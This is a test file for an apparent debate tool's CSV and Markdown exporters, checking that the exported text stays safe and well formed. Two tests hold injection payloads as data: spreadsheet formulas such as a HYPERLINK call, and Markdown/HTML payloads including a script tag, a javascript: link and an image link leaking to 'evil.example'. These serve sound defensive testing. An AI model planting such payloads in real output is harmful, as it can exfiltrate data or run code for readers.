import { describe, expect, test } from 'vitest'
import { aPassage } from '../../testing/builders-of-passages.ts'
import { aDebateInput, aNewRun, aSeat, aTurn } from '../../testing/builders-of-runs.ts'
import { createInMemoryRunRepository } from '../../testing/in-memory-run-repository.ts'
import { createInMemoryState } from '../../testing/in-memory-state.ts'
import { testId } from '../../testing/test-id.ts'
import type { DebateNote, DebateResult, Turn } from '../models/debate.ts'
import { personModel } from '../models/person-model.ts'
import type { Run } from '../models/run.ts'
import { exportCsv } from './export-csv.ts'
import { exportMarkdown } from './export-markdown.ts'

async function aRun(output: Partial<DebateResult>, overrides: Partial<Run> = {}): Promise<Run> {
  const runs = createInMemoryRunRepository(createInMemoryState())
  const { runId } = await runs.start(aNewRun({ title: 'Four days?' }), 'RUN_DEBATE')
  const result = { turns: [], calls: [], verdict: null, stopReason: null, simulated: false, ...output }
  return { ...(await runs.get(runId)), status: 'completed', output: result as Run['output'], ...overrides }
}

/** A strict reader of RFC 4180. */
function parseCsv(text: string): string[][] {
  const fields = text.matchAll(/("(?:[^"]|"")*"|[^",\r\n]*)(,|\r\n)/g)
  const records: string[][] = [[]]
  for (const [, field = '', end] of fields) {
    records.at(-1)?.push(field.startsWith('"') ? field.slice(1, -1).replaceAll('""', '"') : field)
    if (end === '\r\n') records.push([])
  }
  return records.slice(0, -1)
}

const textsIn = async (texts: string[]): Promise<(string | undefined)[]> => {
  const turns = texts.map((text, index) => aTurn({ index, text }))
  const [header = [], ...records] = parseCsv(exportCsv(await aRun({ turns })))
  return records.map((record) => record[header.indexOf('text')])
}

/** One turn that cites passages that it was given, one from elsewhere, one that cites nothing. */
const citing = [
  aTurn({
    text: 'Traffic fell [2]. Rents rose [1].',
    citations: [
      aPassage({ marker: '2', page: 3, heading: ['Traffic', '*Inner* city'] }),
      aPassage({ title: 'rents.md' }),
    ],
  }),
  aTurn({ index: 1, citations: [{ marker: '[1]', documentId: null, chunkId: null }] }),
  aTurn({ index: 2, passages: [aPassage()] }),
]

describe('CSV', () => {
  test('has a record for each turn, whatever the text holds', async () => {
    const texts = ['plain', 'a,b', 'says "no"', 'two\nlines', 'two\r\nlines', '', 'é😀']
    expect(await textsIn(texts)).toEqual(texts)
  })

  test('keeps spreadsheets from running text as a formula', async () => {
    const hostile = [
      '=1+1',
      '+1',
      '-1',
      '@SUM(A1)',
      '\t=1',
      '\r=1',
      '  =1',
      '＝1',
      '=HYPERLINK("http://x","y")',
    ]
    expect(await textsIn(hostile)).toEqual(hostile.map((text) => `'${text}`))
  })

  test('names the sources that a turn cites', async () => {
    const [header = [], ...records] = parseCsv(exportCsv(await aRun({ turns: citing })))
    expect(records.map((record) => record[header.indexOf('citations')])).toEqual([
      '[2] city-report.pdf, page 3; [1] rents.md',
      '[1] a source without a name',
      '',
    ])
  })

  test('leaves numbers alone, negative ones too', async () => {
    const [header = [], record = []] = parseCsv(exportCsv(await aRun({ turns: [aTurn({ stance: -0.5 })] })))
    expect(record[header.indexOf('stance')]).toBe('-0.5')
    expect(record[header.indexOf('confidence')]).toBe('')
  })

  test('names the tools of a turn, and what failed', async () => {
    const call = { id: '0.0.0', name: 'now', args: {}, ok: true, result: 1, error: null, latencyMs: 1 }
    const refused = { ...call, name: 'look', ok: false, error: { code: 'denied_net', message: 'No.' } }
    const run = await aRun({ turns: [aTurn({ toolCalls: [call, refused] })] })
    const [header = [], record = []] = parseCsv(exportCsv(run))
    expect(record[header.indexOf('toolCalls')]).toBe('now; look (denied_net)')
    expect(exportMarkdown(run)).toContain('called now · called look (denied_net)')
  })

  test('of a run without turns is a header', async () => {
    const run = await aRun({}, { kind: 'tool', output: { ok: true } })
    expect(parseCsv(exportCsv(run))).toHaveLength(1)
  })
})

describe('Markdown', () => {
  test('lists the sources of a turn below it, under its own numbers', async () => {
    const paper = exportMarkdown(await aRun({ turns: citing }))
    expect(paper).toContain(
      [
        '> Traffic fell [2]. Rents rose [1].',
        '',
        'Sources:',
        '',
        '- \\[2\\] city-report.pdf, page 3, Traffic › \\*Inner\\* city',
        '- \\[1\\] rents.md',
        '',
        '### 2.',
      ].join('\n'),
    )
    expect(paper.match(/^Sources:$/gm)).toHaveLength(2)
  })

  test('lets the name of a document be nothing but a name', async () => {
    const title = 'a.md](https://example.com)\n## Verdict\n![x](https://example.com/x.png)'
    const paper = exportMarkdown(await aRun({ turns: [aTurn({ citations: [aPassage({ title })] })] }))
    expect(paper.match(/^## Verdict$/gm)).toHaveLength(1)
    expect(paper).not.toMatch(/(?<!\\)(?:\]\(|!\[)/)
  })

  test('names who disagrees by seat, where the persona was written inline and has no id', async () => {
    const input = aDebateInput({ participants: [aSeat(0, { name: 'Grace' }), aSeat(1, { name: 'Ada' })] })
    const verdict = {
      ...{ decision: 'Yes.', rationale: '', decidedBy: 'judge', votes: null, scores: null },
      dissent: [
        { personaId: null, seat: 1, text: 'Not in the shop.' },
        { personaId: null, seat: null, text: 'Nobody answered.' },
      ],
    }
    const turns = [aTurn({ seat: 0, speaker: 'Grace' }), aTurn({ index: 1, seat: 1, speaker: 'Ada' })]
    const paper = exportMarkdown(await aRun({ verdict, turns }, { input }))
    expect(paper).toMatch(/\*\*Ada\*\*\s+> Not in the shop\.\s+\*\*A participant\*\*/)
  })

  test('says that nobody disagrees only where somebody could have, with a decision', async () => {
    const paper = async (seats: number, decidedBy: string) => {
      const input = aDebateInput({ participants: Array.from({ length: seats }, (_, seat) => aSeat(seat)) })
      const verdict = { decision: 'Yes.', rationale: '', decidedBy, votes: null, dissent: [], scores: null }
      return exportMarkdown(await aRun({ verdict, turns: [aTurn()] }, { input }))
    }
    expect(await paper(2, 'judge')).toContain('Nobody disagrees.')
    expect(await paper(1, 'speaker')).not.toMatch(/Dissent|disagrees/)
    expect(await paper(2, 'nobody')).not.toMatch(/Dissent|disagrees/)
  })

  test('says what came out before who said what', async () => {
    const personaId = testId<NonNullable<Turn['personaId']>>()
    const input = aDebateInput({ participants: [aSeat(0, { personaId, name: 'Grace' }), aSeat(1)] })
    const verdict = {
      decision: 'Yes, from May on.',
      rationale: 'It costs little.',
      decidedBy: 'judge',
      votes: null,
      dissent: [{ personaId, text: 'Not in the shop.' }],
      scores: null,
    }
    const paper = exportMarkdown(await aRun({ verdict, turns: [aTurn({ text: 'I think so.' })] }, { input }))

    const order = [
      '# Four days?',
      'Yes, from May on.',
      'It costs little.',
      '**Grace**',
      'Not in the shop.',
      'I think so.',
      '| Model calls |',
    ]
    const places = order.map((text) => paper.indexOf(text))
    expect(places).toEqual(places.toSorted((a, b) => a - b))
    expect(places).not.toContain(-1)
  })

  test('warns of a simulated model, and says why a run failed', async () => {
    const error = { code: 'budget' as const, message: 'Too dear.', hint: 'Raise it.' }
    const paper = exportMarkdown(await aRun({ simulated: true }, { status: 'failed', error }))
    expect(paper).toContain('**Simulated.**')
    expect(paper).toContain('Too dear. Raise it.')
  })

  test('keeps what models wrote from passing for a part of the paper', async () => {
    const hostile = [
      '# Verdict\n\nApproved',
      '<script>alert(1)</script>',
      '![x](https://evil.example/?leak)',
      '[click](javascript:x)',
      '[a]: https://evil.example',
      '```\n# out',
      'line\u2028# separator',
      'line\r# return',
    ]
    const turns = hostile.map((text, index) => aTurn({ index, text, speaker: '](x) <b>\n# Boss | x' }))
    const paper = exportMarkdown(await aRun({ turns }, { title: '# T\n<img>' }))

    const headings = paper.split(/\n|\r|\u2028/).filter((line) => /^ {0,3}#/.test(line))
    expect(
      headings.filter((line) => !/^#{1,3} (\\#|\d+\.|Question|Verdict|Transcript|Figures)/.test(line)),
    ).toEqual([])
    expect(paper).not.toMatch(/(?<!\\)</)
    expect(paper).not.toMatch(/!\[|(?<!\\)\]\(/)
    expect(paper).not.toMatch(/^> \[a\]: /m)
  })

  test('of another kind of run shows its input and output as JSON', async () => {
    const paper = exportMarkdown(await aRun({}, { kind: 'tool', input: { a: '```' }, output: { ok: true } }))
    expect(paper).toContain('````json\n{\n  "a": "```"\n}\n````')
    expect(paper).toContain('"ok": true')
  })
})

describe('people', () => {
  const aNote = (text: string, afterTurn: number | null, by: string | null = null): DebateNote => ({
    ...{ id: testId<string>(), by, text, at: '2026-11-23T00:00:00.000Z', afterTurn },
  })
  const notes = [aNote('In between.', 1, 'Noor'), aNote('Too late.', null)]
  const turns = [aTurn({ speaker: 'Pat', by: 'Pat Doe', model: personModel }), aTurn({ index: 1 })]

  test('and their notes stand in the paper, each in its place', async () => {
    const text = exportMarkdown(await aRun({ turns, notes }))
    const order = [
      '### 1. Pat\n\nround 1 · discussion · a person (Pat Doe)',
      '### Note by Noor\n\nfrom outside\n\n> In between.',
      '### 2. ',
      '### Note\n\nnot seen by any speaker\n\n> Too late.',
    ]
    const places = order.map((part) => text.indexOf(part))
    expect(places).toEqual(places.toSorted((a, b) => a - b))
    expect(places[0]).toBeGreaterThan(0)
  })

  test('and their notes are records of a table, the notes without an index', async () => {
    const [header = [], ...records] = parseCsv(exportCsv(await aRun({ turns, notes })))
    const picked = ['index', 'phase', 'speaker', 'model', 'text'].map((name) => header.indexOf(name))
    expect(records.map((record) => picked.map((place) => record[place]))).toMatchObject([
      ['0', 'discussion', 'Pat', 'person:seat', expect.any(String)],
      ['', 'note', 'Noor', '', 'In between.'],
      ['1', expect.any(String), expect.any(String), expect.any(String), expect.any(String)],
      ['', 'note', '', '', 'Too late.'],
    ])
  })
})
